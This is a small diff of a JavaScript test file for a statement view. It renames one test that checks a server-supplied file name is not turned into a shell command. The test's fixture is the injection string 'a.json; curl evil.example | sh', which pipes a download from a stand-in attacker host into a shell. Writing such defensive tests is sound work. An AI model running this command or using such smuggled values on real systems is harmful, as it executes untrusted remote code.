@@ -188,7 +188,7 @@ describe('the own balance', () => {
     expect(await screen.findByText('Nothing of yours is in this statement')).toBeTruthy()
   })
 
-  it('makes no command of what the house wrote into the name of the file', async () => {
+  it('makes no command of what the server wrote into the name of the file', async () => {
     open({ name: 'a.json; curl evil.example | sh' })
     await check()
     const command = await screen.findByText(/^npm run verify-liabilities/)
